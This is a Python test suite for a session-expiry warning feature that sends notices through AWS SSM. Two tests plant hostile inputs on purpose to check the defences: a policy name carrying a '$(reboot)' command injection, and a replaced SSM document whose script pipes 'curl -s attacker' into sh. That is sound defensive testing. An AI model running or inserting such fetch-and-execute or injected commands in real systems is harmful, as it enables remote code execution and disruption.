"""Warnings before a deadline through the sweeper and fakes: when they fire, what they say, where they cannot work."""

from __future__ import annotations

import json
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import pytest

from tests.fakes import FakeNotices
from tests.unit.test_service import World, grant
from warden.alerts.text import AlertContext
from warden.expiry import ExpiryWarnings
from warden.notifier import Notifier
from warden.policy import PolicyError, load_policy
from warden.policy.notices import MESSAGE_PATTERN, due_thresholds, notice_text, warning_times
from warden_local.stack import load_template

# The warning document as the stack creates it (what GetDocument returns, parsed).
_THE_DOCUMENT: dict[str, Any] = load_template(Path(__file__).resolve().parents[2] / "template.yaml")["Resources"][
    "WarningDocument"
]["Properties"]["Content"]
ANALYTICS = "i-0a1b2c3d4e5f60718"  # an instance id as EC2 makes them (SendCommand needs one)
# 16:30 UTC = 17:30 Berlin: alice's rule allows her until business hours close at 18:00 Berlin.
LATE = datetime(2026, 11, 24, 16, 30, tzinfo=UTC)


def warned(world: World, *, unavailable: str = "") -> FakeNotices:
    """The sweeper warns through fake notices; with *unavailable*, it has no warning document (that is why)."""
    notices = FakeNotices()
    world.sweeper.warnings = ExpiryWarnings(
        None if unavailable else notices,
        world.ledger,
        world.once,
        Notifier(world.alerts, world.once, None),
        AlertContext("session-warden", "eu-central-1"),
        unavailable=unavailable,
    )
    return notices


def started_late(world: World, target: str = ANALYTICS) -> str:
    world.clock.moment = LATE
    world.tags.tags.setdefault(target, {"Name": "analytics-2", "Department": "Analytics"})
    call = world.start(target)
    world.events.on_session_started(call)
    return call.session_id or ""


def sweep_until(world: World, moment: datetime) -> None:
    while world.clock.now() < moment:
        world.clock.advance(minutes=1)
        world.sweeper.sweep("s")


def test_each_threshold_sends_one_notice_and_the_first_one_alerts() -> None:
    world = World()
    notices = warned(world)
    session = started_late(world)
    sweep_until(world, LATE + timedelta(minutes=19))
    assert notices.sent == []
    sweep_until(world, LATE + timedelta(minutes=29))
    message = "Session Warden: this session ends at 18:00 Europe/Berlin (business-hours closes). Save your work."
    assert notices.sent == [(ANALYTICS, session, message)] * 2
    assert world.alerts.kinds() == ["session-expiring"]
    row = world.ledger.get(session)
    assert row is not None
    assert {key: record["at"] for key, record in row.warnings.items()} == {
        "10m before 2026-11-24T17:00:00Z": "2026-11-24T16:50:00Z",
        "2m before 2026-11-24T17:00:00Z": "2026-11-24T16:58:00Z",
    }


def test_in_monitor_mode_no_one_is_told_the_session_ends() -> None:
    # GIVEN the policy in monitor mode: the warden reports the deadline but never ends a session at it
    world = World(mode="monitor")
    notices = warned(world)
    started_late(world)
    sweep_until(world, LATE + timedelta(minutes=29))
    assert notices.sent == []
    assert "session-expiring" not in world.alerts.kinds()


def test_a_late_sweep_sends_only_the_nearest_warning_and_notes_the_other_as_not_sent() -> None:
    world = World()
    notices = warned(world)
    session = started_late(world)
    # GIVEN no sweep ran between 17:30 and 17:58 Berlin
    world.clock.moment = LATE + timedelta(minutes=28)
    world.sweeper.sweep("s")
    assert len(notices.sent) == 1
    row = world.ledger.get(session)
    assert row is not None
    assert row.warnings["10m before 2026-11-24T17:00:00Z"]["status"] == "not sent"
    assert row.warnings["10m before 2026-11-24T17:00:00Z"]["detail"] == "the 2m warning was due by then"
    assert row.warnings["2m before 2026-11-24T17:00:00Z"]["status"] == "sent"
    assert world.alerts.kinds() == ["session-expiring"]


def test_a_session_started_after_a_threshold_gets_only_the_later_ones() -> None:
    deadline = datetime(2026, 11, 24, 17, 0, tzinfo=UTC)
    policy = load_policy("version: 1\n")
    assert [t.label for t in due_thresholds(policy.warn_before, deadline, deadline - timedelta(minutes=1))] == [
        "10m",
        "2m",
    ]
    started = deadline - timedelta(minutes=5)
    due = due_thresholds(policy.warn_before, deadline, deadline - timedelta(minutes=1), started=started)
    assert [t.label for t in due] == ["2m"]
    assert due_thresholds(policy.warn_before, deadline, deadline) == []


def test_what_the_node_answered_is_noted_at_the_next_sweep() -> None:
    world = World()
    notices = warned(world)
    session = started_late(world)
    sweep_until(world, LATE + timedelta(minutes=20))
    notices.answers["cmd-1"] = ("failed", "the session has no terminal")
    sweep_until(world, LATE + timedelta(minutes=21))
    row = world.ledger.get(session)
    assert row is not None
    record = row.warnings["10m before 2026-11-24T17:00:00Z"]
    assert (record["status"], record["detail"], record["command"]) == ("failed", "the session has no terminal", "cmd-1")


@pytest.mark.parametrize(
    ("failure", "detail"),
    [
        (("InvalidInstanceId", "Instances not in a valid state for account"), "SendCommand refused: ClientError:"),
        # A member account whose stack predates the warning document: named, with what brings it.
        (
            ("InvalidDocument", "Document session-warden-session-notice-1 does not exist"),
            "the warning document does not exist in this account and region (in organization mode: a member stack "
            "from before warnings; `warden org deploy` updates it) (ClientError:",
        ),
    ],
)
def test_a_refused_send_command_is_noted_and_the_alert_still_goes_out(failure: tuple[str, str], detail: str) -> None:
    world = World()
    notices = warned(world)
    notices.failures, notices.failure = 1, failure
    session = started_late(world)
    sweep_until(world, LATE + timedelta(minutes=20))
    row = world.ledger.get(session)
    assert row is not None
    record = row.warnings["10m before 2026-11-24T17:00:00Z"]
    assert record["status"] == "failed"
    assert record["detail"].startswith(detail)
    (alert,) = world.alerts.sent
    assert alert.kind == "session-expiring"
    assert f"  - 10m before: not sent ({detail}" in alert.body


def test_where_there_is_no_warning_document_the_alert_goes_out_and_the_ledger_says_why_no_notice() -> None:
    # GIVEN a scope with no warning document to send
    world = World()
    warned(world, unavailable="the function has no warning document (WARDEN_WARNING_DOCUMENT is not set)")
    session = started_late(world)
    # WHEN each threshold passes
    sweep_until(world, LATE + timedelta(minutes=29))
    # THEN each warning is noted as not sent, with the reason; one alert says so
    row = world.ledger.get(session)
    assert row is not None
    assert {key: (record["status"], record["detail"]) for key, record in row.warnings.items()} == {
        f"{label} before 2026-11-24T17:00:00Z": (
            "not sent",
            "the function has no warning document (WARDEN_WARNING_DOCUMENT is not set)",
        )
        for label in ("10m", "2m")
    }
    (alert,) = world.alerts.sent
    assert alert.kind == "session-expiring"
    assert "  - 10m before: not sent (the function has no warning document (WARDEN_WARNING_DOCUMENT" in alert.body
    assert "  Ends at:  18:00 Europe/Berlin" in alert.body


def test_an_ecs_task_gets_no_command_the_ledger_says_why_and_the_alert_goes_out() -> None:
    world = World()
    notices = warned(world)
    target = "ecs:analytics_0123456789abcdef0123456789abcdef_0123456789abcdef0123456789abcdef-1"
    world.tags.tags[target] = {"Department": "Analytics"}
    session = started_late(world, target)
    sweep_until(world, LATE + timedelta(minutes=20))
    assert notices.sent == []
    row = world.ledger.get(session)
    assert row is not None
    detail = row.warnings["10m before 2026-11-24T17:00:00Z"]["detail"]
    assert detail == f"target {target} is an ECS task: SendCommand cannot reach it"
    assert world.alerts.kinds() == ["session-expiring"]


def test_a_grant_deadline_names_the_grant_and_the_command_that_extends_it() -> None:
    start = datetime(2026, 11, 24, 9, 0, tzinfo=UTC)
    world = World(grants=[grant("g-0abc", starts=start, hours=1)])
    notices = warned(world)
    world.tags.tags["i-0fedcba9876543210"] = {"Environment": "prod"}
    call = world.start("i-0fedcba9876543210", who="arn:aws:iam::123456789012:user/bob")
    world.events.on_session_started(call)
    sweep_until(world, start + timedelta(minutes=50))
    assert (
        notices.sent[0][2] == "Session Warden: this session ends at 10:00 UTC (grant g-0abc expires). Save your work."
    )
    (alert,) = world.alerts.sent
    assert "To give it more time: warden grant extend g-0abc --for 30m --reason R" in alert.body
    assert alert.card is not None
    assert ("Extend the grant", "warden grant extend g-0abc --for 30m --reason R") in alert.card.next_steps


def test_warn_before_is_read_sorted_and_checked() -> None:
    assert [
        t.label for t in warning_times(load_policy("version: 1\nwarn_before: [2m, 15m, 5m]\n").warn_before, LATE)
    ] == [
        "15m",
        "5m",
        "2m",
    ]
    assert load_policy("version: 1\nwarn_before: []\n").warn_before == ()
    assert load_policy("version: 1\n").warn_before == (timedelta(minutes=10), timedelta(minutes=2))
    for bad, says in (
        ("[2m, 2m]", "names 2m twice"),
        ("5m", "must be a list of durations"),
        ("[0m]", "must be longer than zero"),
        ("[1m, 2m, 3m, 4m, 5m, 6m]", "6 durations: at most 5"),
        ("[2d]", "more than a day"),
        ("[soon]", "invalid duration 'soon'"),
    ):
        with pytest.raises(PolicyError, match=says):
            load_policy(f"version: 1\nwarn_before: {bad}\n")


def test_the_notice_keeps_to_the_documents_characters_whatever_the_policy_names() -> None:
    import re

    from warden.policy import Deadline

    deadline = datetime(2026, 11, 24, 17, 0, tzinfo=UTC)
    hostile = Deadline("window-closes", "office`$(reboot)`\x1b[2J;" + "x" * 300, "Europe/Berlin")
    text = notice_text(deadline, hostile, deadline - timedelta(minutes=10))
    assert re.fullmatch(MESSAGE_PATTERN, text)
    assert text.startswith("Session Warden: this session ends at 18:00 Europe/Berlin (office__(reboot)___2J_xxx")


class _Ssm:
    """SSM's answers to GetDocument, SendCommand and GetCommandInvocation, as boto3 returns them."""

    def __init__(self, invocation: dict[str, object] | Exception, document: object = None) -> None:
        self.invocation = invocation
        self.document = _THE_DOCUMENT if document is None else document
        self.sent: list[dict[str, object]] = []

    def get_document(self, **request: object) -> dict[str, object]:
        assert (request["DocumentVersion"], request["DocumentFormat"]) == ("1", "JSON")
        return {"Name": request["Name"], "Content": json.dumps(self.document), "DocumentFormat": "JSON"}

    def send_command(self, **request: object) -> dict[str, object]:
        self.sent.append(request)
        return {"Command": {"CommandId": "0b6f-command"}}

    def get_command_invocation(self, **request: object) -> dict[str, object]:
        if isinstance(self.invocation, Exception):
            raise self.invocation
        return self.invocation


def test_send_command_names_the_stacks_document_the_node_and_both_parameters() -> None:
    from warden.adapters.notices import SsmSessionNotices

    ssm = _Ssm({})
    notices = SsmSessionNotices(ssm, "session-warden-WarningDocument-abc")  # type: ignore[arg-type]
    assert notices.send("i-0a1b2c3d4e5f60718", "alice-0f1e2d3c4b5a69788", "ends at 18:00") == "0b6f-command"
    (request,) = ssm.sent
    assert request["DocumentName"] == "session-warden-WarningDocument-abc"
    assert request["InstanceIds"] == ["i-0a1b2c3d4e5f60718"]
    assert request["Parameters"] == {"SessionId": ["alice-0f1e2d3c4b5a69788"], "Message": ["ends at 18:00"]}


def test_a_warning_document_replaced_under_its_name_is_not_run_and_the_ledger_says_so() -> None:
    from warden.adapters.notices import SsmSessionNotices

    # GIVEN the document deleted and another created under its name, running something else
    content = dict(_THE_DOCUMENT)
    (step,) = content["mainSteps"]
    content["mainSteps"] = [{**step, "inputs": {"runCommand": ["#!/bin/sh\ncurl -s attacker | sh"]}}]
    ssm = _Ssm({}, content)
    world = World()
    world.sweeper.warnings = ExpiryWarnings(
        SsmSessionNotices(ssm, "session-warden-session-notice-1"),  # type: ignore[arg-type]
        world.ledger,
        world.once,
        Notifier(world.alerts, world.once, None),
        AlertContext("session-warden", "eu-central-1"),
    )
    session = started_late(world)
    # WHEN the 10-minute warning is due
    sweep_until(world, LATE + timedelta(minutes=20))
    # THEN SSM is asked to run nothing; the ledger and the alert say why
    assert ssm.sent == []
    row = world.ledger.get(session)
    assert row is not None
    record = row.warnings["10m before 2026-11-24T17:00:00Z"]
    assert record["status"] == "not sent"
    assert record["detail"] == (
        "warning document session-warden-session-notice-1 version 1: its script is not "
        "functions/sweeper/session_notice.sh of this version: not run (someone replaced it; deploy the stack again)"
    )
    assert "not run (someone replaced it" in world.alerts.sent[0].body


@pytest.mark.parametrize(
    ("invocation", "answer"),
    [
        ({"Status": "InProgress"}, None),
        ({"Status": "Success", "ResponseCode": 0}, ("delivered", "the notice was written to the session's terminal")),
        ({"Status": "Failed", "ResponseCode": 3}, ("failed", "no session worker of this session on the node")),
        ({"Status": "Failed", "ResponseCode": 4}, ("failed", "the session has no terminal")),
        ({"Status": "InvalidPlatform"}, ("failed", "the node is not Linux: the notice is written on Linux nodes only")),
        ({"Status": "Failed", "ResponseCode": 127}, ("failed", "the command ended Failed (exit code 127)")),
    ],
)
def test_what_the_node_answered_is_told_in_words(invocation: dict[str, object], answer: object) -> None:
    from warden.adapters.notices import SsmSessionNotices

    notices = SsmSessionNotices(_Ssm(invocation), "doc")  # type: ignore[arg-type]
    assert notices.result("0b6f-command", "i-0a1b2c3d4e5f60718") == answer


def test_an_invocation_not_registered_yet_is_still_running() -> None:
    from botocore.exceptions import ClientError

    from warden.adapters.notices import SsmSessionNotices

    missing = ClientError({"Error": {"Code": "InvocationDoesNotExist", "Message": ""}}, "GetCommandInvocation")
    notices = SsmSessionNotices(_Ssm(missing), "doc")  # type: ignore[arg-type]
    assert notices.result("0b6f-command", "i-0a1b2c3d4e5f60718") is None
